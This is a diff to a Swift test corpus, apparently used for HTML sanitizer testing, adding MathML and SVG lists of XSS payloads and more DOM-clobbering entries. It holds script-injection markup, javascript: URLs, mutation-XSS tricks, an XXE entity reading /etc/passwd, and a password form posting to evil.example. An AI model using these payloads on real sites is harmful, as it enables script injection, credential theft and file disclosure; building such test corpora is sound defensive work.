@@ -1,6 +1,7 @@
 /// Markup that has made, or is shaped like what has made, sanitizers fail.
 enum AttackPayloads {
-  static let all: [String] = scripts + handlers + addresses + foreign + rawText + broken + structure + deceit
+  static let all: [String] =
+    scripts + handlers + addresses + foreign + formulas + drawings + rawText + broken + structure + deceit
 
   static let scripts = [
     #"<script>alert(1)</script>"#,
@@ -102,6 +103,50 @@ enum AttackPayloads {
     #"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>"#,
   ]
 
+  static let formulas = [
+    #"<math href="javascript:alert(1)" xlink:href="javascript:alert(1)" onclick=alert(1) style="position:fixed"><mi>x</mi></math>"#,
+    #"<math><mi href="javascript:alert(1)" onmouseover=alert(1) id=body class=x>x</mi><mo style="x:y">+</mo></math>"#,
+    #"<math><mtext><img src=x onerror=alert(1)><b>x</b><script>alert(1)</script><style>y</style></mtext></math>"#,
+    #"<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></semantics>"#,
+    #"<math><annotation-xml encoding="application/xhtml+xml"><svg><script>alert(1)</script></svg></annotation-xml><mi>y"#,
+    #"<math><maction actiontype="statusline#javascript:alert(1)" selection="2"><mi>a</mi><mtext><a href=javascript:x>b</a></mtext></maction></math>"#,
+    #"<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></math>"#,
+    #"<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>"#,
+    #"<math><mi></mi><mtext><form><form><mtext></form><math><mglyph><style></math><img src onerror=alert(1)></style>"#,
+    #"<math><mrow><mtext>&lt;/mtext&gt;&lt;img src=x onerror=alert(1)&gt;</mtext><!--><img src=x onerror=alert(1)>--></mrow></math>"#,
+    #"<math><mfrac><p>x</p></mfrac></math><math><mrow></p><img src=x onerror=alert(1)></mrow></math>"#,
+    #"<math alttext='"><img src=x onerror=alert(1)>' display="block\"onload=alert(1)"><mi>x</mi></math>"#,
+    #"<math><mfenced open='<img src=x onerror=alert(1)>' close='"><script>' separators="<>"><mi>a</mi><mi>b</mi></mfenced></math>"#,
+    #"<math><mspace width="-99999px"/><mpadded voffset="-2000px" lspace="-3000px"><mi>x</mi></mpadded><mo lspace="-9999em">x"#,
+    #"<math><mi><math><mi>x</mi></math><svg><desc><img src onerror=alert(1)></desc></svg></mi></math>"#,
+    #"<math><![CDATA[><img src=x onerror=alert(1)>]]><mi><![CDATA[><img src=x onerror=alert(1)>]]></mi></math>"#,
+    #"<b><math><mi><p>x</b></mi><mtext><b><p></math><img src=x onerror=alert(1)>"#,
+    #"<table><math><mi><tr><td>x</td></tr></mi><mtext><td>y</math><caption><math><mtext></caption>z</table>"#,
+    #"<select><math><mtext><select><img src=x onerror=alert(1)></mtext></math></select>"#,
+    #"<math><x-y onclick=alert(1)><script>alert(1)</script><title><style><img src onerror=alert(1)></style></title></x-y></math>"#,
+  ]
+
+  static let drawings = [
+    #"<svg onload=alert(1) viewBox="0 0 9 9"><path d="M0 0L9 9" onclick=alert(1) style="fill:url(https://evil.example/x)"/></svg>"#,
+    #"<svg><rect width=9 height=9 /><script>alert(1)</script><foreignObject><body onload=alert(1)>x</body></foreignObject></svg>"#,
+    #"<svg><image href="https://evil.example/x.png" width=9 height=9 /><image href="data:image/svg+xml,<svg onload=alert(1)>"/><rect/></svg>"#,
+    #"<svg><use href="https://evil.example/x.svg#a"/><use href="data:image/svg+xml,x#a"/><use xlink:href="//evil.example#b"/><rect/></svg>"#,
+    #"<svg><style>@import url(//evil.example);rect{fill:url(//evil.example#x)}</style><rect style="background:url(//evil.example)"/></svg>"#,
+    #"<svg><style>rect{fill:u\72l(//evil.example)}</style><rect fill="image-set('//evil.example')" mask="src(//evil.example)"/></svg>"#,
+    #"<svg><a href="javascript:alert(1)"><text>press</text></a><set attributeName=href to=javascript:alert(1) /><animate onbegin=alert(1) /></svg>"#,
+    #"<svg><title><img src=x onerror=alert(1)></title><desc><script>alert(1)</script></desc><path d=M0 /></svg>"#,
+    #"<svg><text>]]&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text><text><![CDATA[<script>alert(1)</script>]]></text></svg>"#,
+    #"<svg><path d='M0"/><script>alert(1)</script>' id='"><script>'/></svg>"#,
+    #"<svg><g id=a><rect width=1 height=1 /><use href=#a /></g><use href=#b /><g id=b><use href=#c /><use href=#c /></g><path id=c d=M0 /></svg>"#,
+    #"<svg><pattern id=p><rect fill="url(#p)"/><use href=#q /></pattern><rect id=q fill="url(#p)" filter="url(#f)"/><filter id=f><feImage href=//evil.example /></filter></svg>"#,
+    #"<svg><switch><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject><text>x</text></switch></svg>"#,
+    #"<svg><style><img src=x onerror=alert(1)></style><rect/></svg><svg><path d=x></p><img src=x onerror=alert(1)></svg>"#,
+    #"<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><rect onload='alert(1)'/></svg>">"#,
+    #"<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48cmVjdC8+PC9zdmc+">"#,
+    #"<img srcset="data:image/svg+xml,%3Csvg%3E%3Crect/%3E%3Cscript%3Ealert(1)%3C/script%3E%3C/svg%3E 2x"><img src="data:image/svg+xml;x=y,<svg:svg>">"#,
+    #"<img src="data:image/svg+xml,<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg><text>&x;</text></svg>">"#,
+  ]
+
   static let rawText = [
     #"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"#,
     #"<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>"#,
@@ -164,6 +209,16 @@ enum AttackPayloads {
   ]
 
   static let deceit = [
+    #"<p id=body><a id=documentElement name=cookie href=#body>x</a><img id=createElement src=a>"#,
+    #"<a id=rows><a id=rows name=innerHTML href="cid:<img src=x onerror=alert(1)>">x</a>"#,
+    ##"<p id='e-"><img src=x onerror=alert(1)>'>x</p><a href='#e-"><img src=x onerror=alert(1)>'>x</a>"##,
+    ##"<a name="&#10;javascript:alert(1)">x</a><a href="#&#10;javascript:alert(1)">x</a><a href="#javascript:alert(1)">"##,
+    #"<form id=entry><input id=attributes><output id=parentNode name=e-></form><p id="e42-x">x</p><p id=__proto__>x</p>"#,
+    #"<iframe src="https://evil.example/"onload=alert(1)" title="</a><img src=x onerror=alert(1)>"></iframe>"#,
+    #"<iframe src="data:text/html,<script>alert(1)</script>" title=x></iframe><iframe src="//[::1]/" title=y></iframe>"#,
+    #"<object data="https://evil.example/<img src=x onerror=alert(1)>" title="<b>"><a class=frame href=javascript:x>y</a>"#,
+    #"<a class=frame href="javascript:alert(1)">x</a><a class="frame x" href="https://e.example/" onclick=x>y</a>"#,
+    #"<map name=body><area href="javascript:alert(1)" alt="x"><area href="https://e.example/" alt="<script>"></map>"#,
     #"<form action=//evil.example><input name=password type=password><input type=image src=x></form>"#,
     #"<div id=app class=modal style="position:fixed;inset:0">x</div><a name=body id=cookie>x</a>"#,
     #"<img name=getElementById src=a><form id=x><input name=attributes></form>"#,
